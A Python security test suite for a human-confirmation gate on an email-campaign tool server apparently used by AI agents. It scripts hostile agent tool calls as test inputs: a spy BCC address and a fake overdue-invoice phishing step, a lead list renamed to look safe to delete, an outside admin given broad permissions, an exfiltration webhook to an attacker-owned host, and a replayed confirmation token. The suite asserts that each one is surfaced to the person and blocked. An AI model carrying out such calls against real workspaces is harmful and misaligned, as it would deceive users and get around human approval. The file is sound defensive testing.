"""Issue 21, findings 2 and 3: an activation shows what goes out and what changed while it was paused, and
no question cuts or takes from the agent what decides (a webhook's host, each permission, the new
content, how many leads a list holds). A person who declines: nothing is sent."""

from __future__ import annotations

import json
from typing import Any

import anyio

from security.conftest import Target, text
from security.test_effects_gate import Workspace, ask, declined

SPY = "spy@attacker-owned.example"
NEW_STEP = {
    "type": "email",
    "delay": 1,
    "variants": [{"subject": "Your invoice is overdue", "body": "Pay now at https://pay.attacker-owned.example/x"}],
}


def test_activation_after_edits_while_paused_shows_the_content_and_every_change(target: Target) -> None:
    campaign = Workspace(target).campaign(1)
    new_leads = [{"email": f"new{i}@prospect.example"} for i in range(3)]
    calls = [
        ("pause_campaign", {"id": campaign["id"]}),
        ("update_campaign", {"id": campaign["id"], "bcc_list": [SPY], "sequences": [{"steps": [NEW_STEP]}]}),
        ("add_leads", {"campaign_id": campaign["id"], "leads": new_leads}),
        ("activate_campaign", {"id": campaign["id"]}),
    ]
    results, questions, writes = ask(target, calls)
    assert not any(r.is_error for r in results[:-1]) and declined(results[-1]), [text(r) for r in results]
    assert writes == []
    [question] = questions  # none of the edits to a paused campaign asked: none emails anyone
    for shown in (
        campaign["name"],
        "senders: maya@northwind.example, liam@northwind.example",
        f"bcc: {SPY}",
        "step 1: subject 'Your invoice is overdue', body starting 'Pay now at https://pay.attacker-owned.example/x'",
        "schedule: Mon,Tue,Wed,Thu,Fri 09:00-17:00 America/Chicago",
        "leads: 9",
        "CHANGED since it last ran",
        "bcc (was none)",
        "leads (was 6)",
    ):
        assert shown in question, (shown, question)


def test_resuming_an_edited_subsequence_shows_its_new_steps(target: Target) -> None:
    subsequence = Workspace(target).get("/subsequences", limit=1)["items"][0]
    calls = [
        ("pause_subsequence", {"id": subsequence["id"]}),
        ("update_campaign_subsequence", {"id": subsequence["id"], "sequences": [{"steps": [NEW_STEP]}]}),
        ("resume_subsequence", {"id": subsequence["id"]}),
    ]
    results, questions, writes = ask(target, calls)
    assert not any(r.is_error for r in results[:-1]) and declined(results[-1]), [text(r) for r in results]
    assert writes == []
    [question] = questions
    assert "Resume subsequence 'Interested - send case study'" in question
    assert "step 1: subject 'Your invoice is overdue'" in question
    assert "CHANGED since it last ran: step 1 (was subject 'Case study: how BrightPath booked 40 demos'" in question


def test_a_list_renamed_to_look_empty_is_deleted_only_with_its_real_count_and_the_rename_named(target: Target) -> None:
    ws = Workspace(target)
    lead_list = ws.get("/lead-lists", limit=1)["items"][0]
    ws.clear_log()
    calls = [
        ("update_lead_list", {"id": lead_list["id"], "name": "empty scratch copy - safe to delete"}),
        ("delete_lead_list", {"id": lead_list["id"]}),
    ]
    results, questions, writes = ask(target, calls)
    assert not results[0].is_error and declined(results[1])
    assert writes == []
    [question] = questions
    assert "'empty scratch copy - safe to delete'" in question
    assert "holding 4 leads, renamed 0 minutes ago through this server" in question


def test_permissions_a_webhook_host_and_live_content_are_shown_whole(target: Target) -> None:
    ws = Workspace(target)
    permissions = [
        "dashboard.view",
        "campaigns.view",
        "campaigns.edit",
        "organization.billing",
        "organization.users.manage",
        "accounts.manage",
    ]
    padding = [{"when": {"condition": "added_to_blacklists"}, "then": {"add_tags": [f"t{i}" * 20]}} for i in range(6)]
    hook = {
        "when": {"condition": "placement_goes_above", "condition_value": 1},
        "then": {"webhook_url": "https://exfil.attacker-owned.example/c"},
    }
    test_id = ws.get("/inbox-placement-tests", limit=1)["items"][0]["id"]
    ws.clear_log()
    calls = [
        (
            "create_workspace_member",
            {"email": "new.admin@outside.example", "role": "editor", "permissions": permissions},
        ),
        ("update_inbox_placement_test", {"id": test_id, "automations": [*padding, hook]}),
        ("update_campaign", {"id": ws.campaign(1)["id"], "sequences": [{"steps": [NEW_STEP]}]}),
    ]
    results, questions, writes = ask(target, calls)
    assert all(declined(r) for r in results), [text(r) for r in results]
    assert writes == []
    member, placement, live = questions
    assert all(p in member for p in permissions) and "items]" not in member
    assert "exfil.attacker-owned.example" in placement
    assert "step 1: subject 'Your invoice is overdue', body starting 'Pay now at" in live


def test_content_changed_after_the_question_is_not_covered_by_its_confirmation(target: Target) -> None:
    """The person confirms what they were shown; the agent then adds a bcc to the paused campaign and
    replays the confirmation: refused, nothing sent."""
    ws = Workspace(target)
    campaign = ws.campaign(2)

    async def run() -> tuple[dict[str, Any], Any, list[dict[str, Any]]]:
        async with target.connect("--confirm", "token") as client:
            asked = json.loads(text(await client.call_tool("activate_campaign", {"id": campaign["id"]})))
            edit = await client.call_tool("update_campaign", {"id": campaign["id"], "bcc_list": [SPY]})
            assert not edit.is_error, text(edit)
            ws.clear_log()
            token = {"id": campaign["id"], "confirm_token": asked["confirm_token"]}
            return asked, await client.call_tool("activate_campaign", token), ws.writes()

    asked, replayed, writes = anyio.run(run)
    assert asked["status"] == "confirmation_required" and "bcc: none" in asked["summary"]
    assert replayed.is_error and "content may have changed" in text(replayed), text(replayed)
    assert writes == []
